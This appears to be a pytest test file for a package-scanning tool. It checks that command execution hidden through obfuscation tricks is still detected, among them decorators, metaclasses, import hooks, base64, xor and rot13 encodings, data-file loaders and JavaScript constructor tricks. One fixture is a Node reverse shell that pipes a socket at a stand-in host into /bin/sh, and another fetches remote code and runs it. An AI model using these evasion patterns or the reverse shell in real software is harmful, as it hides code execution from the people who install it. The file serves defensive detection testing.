"""Code that does the same in a roundabout way is read all the same."""

import base64

import pytest
from reading import package, short

PLAIN = base64.b64encode(b"import os\nos.system('id')").decode()
SCRIPT = base64.b64encode(b"require('child_process').execSync('id')").decode()

PYTHON = {
    "decorator": "import os\ndef d(f):\n    os.system('id')\n    return f\n@d\ndef g(): pass\n",
    "decorator of a class, made by a function": "import os\ndef d(c):\n    def w(f):\n        os.system(c)\n"
    "        return f\n    return w\n@d('id')\nclass G: pass\n",
    "subclass hook": "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('id')\nclass B(A): pass\n",
    "metaclass": "import os\nclass M(type):\n    def __new__(m, n, b, d):\n        os.system('id')\nclass B(metaclass=M): pass\n",
    "method in a thread": "import os, threading\nclass A:\n    def go(self, c):\n        os.system(c)\n"
    "threading.Thread(target=A().go, args=('id',)).start()\n",
    "partial function": "import os, functools\nf = functools.partial(os.system, 'id')\nf()\n",
    "attribute getter": "import os, operator\noperator.attrgetter('sys' + 'tem')(os)('id')\n",
    "method caller": "import os, operator\noperator.methodcaller('system', 'id')(os)\n",
    "property": "import os\nclass A:\n    @property\n    def x(self):\n        return os.system('id')\nA().x\n",
    "context manager": "import os\nclass A:\n    def __enter__(self):\n        os.system('id')\nwith A(): pass\n",
    "import hook": f"import sys, base64\nclass L:\n    def exec_module(self, m):\n        exec(base64.b64decode('{PLAIN}'))\n"
    "sys.meta_path.insert(0, L())\n",
    "docstring": f'import base64\ndef f():\n    """{PLAIN}"""\nexec(base64.b64decode(f.__doc__))\n',
    "xor with a key": f"k = b'ab'\nexec(bytes([c ^ k[i % len(k)] for i, c in enumerate("
    f"{bytes(c ^ b'ab'[i % 2] for i, c in enumerate(b'import os;os.system(' + bytes([39]) + b'id' + bytes([39]) + b')'))!r})]))\n",
    "name of its own module": "import os\ndef f():\n    os.system('id')\nglobals()['f']()\n",
}


@pytest.mark.parametrize("code", PYTHON.values(), ids=PYTHON.keys())
def test_python_that_goes_about_it_runs_at_import(code: str) -> None:
    assert any(b.startswith("process.exec id @ pkg/__init__.py") and "(import)" in b
               for b in package({"pkg/__init__.py": code}))  # fmt: skip


@pytest.mark.parametrize(
    "data",
    [
        "import os\nos.system('id')\n".encode("utf-16"),
        b"\xef\xbb\xbfimport os\r\nos.system('id')\r\n",
        b"import os\ros.system('id')\r",
        b"# -*- coding: rot13 -*-\nvzcbeg bf\nbf.flfgrz('vq')\n",
        b"# coding: utf-7\nimport os\n" + "os.system('id')\n".encode("utf-7"),
        b"# coding: no-such-codec\nimport os\nos.system('id')\n",
        b"import os\nprint 'two'\nexec 'x = 1'\nos.system('id')\n",
        b"import os\ndef broken(:\n    pass\nos.system('id')\n",
    ],
    ids=["utf-16", "bom", "cr", "rot13", "utf-7", "unknown codec", "python 2", "broken"],
)
def test_python_in_any_encoding_or_version_is_read(data: bytes) -> None:
    assert "process.exec id" in short(package({"pkg/__init__.py": data}))


@pytest.mark.parametrize(
    "loader",
    [
        "exec(base64.b64decode(open(os.path.join(os.path.dirname(__file__), 'x.dat')).read()))",
        "exec(base64.b64decode(open(os.path.splitext(__file__)[0][:-8] + 'x.dat').read()))",
        "exec(base64.b64decode(pkgutil.get_data('pkg', 'x.dat')))",
        "exec(base64.b64decode(pathlib.Path(__file__).with_name('x.dat').read_text()))",
    ],
)
def test_python_that_runs_what_stands_in_a_data_file_is_read(loader: str) -> None:
    files = {"pkg/__init__.py": f"import base64, os, pathlib, pkgutil\n{loader}\n", "pkg/x.dat": PLAIN}
    assert "process.exec id @ pkg/__init__.py:2 (import)" in package(files)


SCRIPTS = {
    "fields of an object": "class A { constructor() { this.c = 'id' } go() { require('child_process').execSync(this.c) } }\n"
    "new A().go()",
    "constructor of the class above": "class A { constructor(c) { this.c = c } }\nclass B extends A {\n"
    "constructor() { super('id') } go() { require('child_process').execSync(this.c) } }\nnew B().go()",
    "data url": f"import('data:text/javascript;base64,{SCRIPT}')",
    "worker": f"const {{Worker}} = require('worker_threads'); new Worker(atob('{SCRIPT}'), {{eval: true}})",
    "constructor of a function": f"[]['filter']['constructor'](atob('{SCRIPT}'))()",
    "constructor of an async function": f"Object.getPrototypeOf(async function () {{}}).constructor(atob('{SCRIPT}'))()",
    "numbered modules": "(() => { var e = {1: (e, t, n) => { n(2).go('id') }, 2: (e, t, n) => { const c = n(3);\n"
    "t.go = x => c.execSync(x) }, 3: e => { e.exports = require('child_process') }}, t = {};\n"
    "function n(r) { var o = t[r]; if (void 0 !== o) return o.exports; var i = t[r] = {exports: {}};\n"
    "return e[r](i, i.exports, n), i.exports } n(1) })();",
    "lone carriage returns": "const c = require('child_process');\r// x\rc.execSync('id');\r",
    "a carriage return that ends a statement": "const c = require('child_process')\rc.execSync('id')\nc.x()\n",
}


@pytest.mark.parametrize("code", SCRIPTS.values(), ids=SCRIPTS.keys())
def test_javascript_that_goes_about_it_is_read(code: str) -> None:
    assert "process.exec id" in short(package({"index.js": code}))


def test_a_file_of_any_suffix_that_is_required_is_read_as_code() -> None:
    files = {"index.js": "require('./x.dat')", "x.dat": "require('child_process').execSync('id')"}
    assert "process.exec id @ index.js:1 (import)" in package(files)


def test_a_shell_joined_to_a_socket_runs_what_comes_from_the_network() -> None:
    code = (
        "const net = require('net'), cp = require('child_process'); const sh = cp.spawn('/bin/sh', []);\n"
        "const c = new net.Socket(); c.connect(4444, 'x.example', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })"
    )
    assert "code.flow network > execution" in short(package({"index.js": code}))


FETCHED = "import requests, hashlib\nd = requests.get('https://x.example').content\n"


@pytest.mark.parametrize(
    ("check", "flow"),
    [
        ("hashlib.sha256(d).hexdigest()", "network"),
        ("if hashlib.sha256(d).hexdigest() != requests.get('https://x.example/s').text: raise E", "network"),
        ("if hashlib.sha256(d).hexdigest() != 'abc': raise E", "verified"),
        ("h = hashlib.sha256(); h.update(d); assert h.hexdigest() == EXPECTED", "verified"),
    ],
    ids=["hashed", "compared with what was fetched too", "compared", "compared later"],
)
def test_only_a_digest_that_is_compared_with_something_known_pins_what_was_fetched(
    check: str, flow: str
) -> None:
    found = short(package({"pkg/__init__.py": f"{FETCHED}{check}\nexec(d)\n"}))
    assert {f for f in found if f.endswith("> execution")} == {f"code.flow {flow} > execution"}
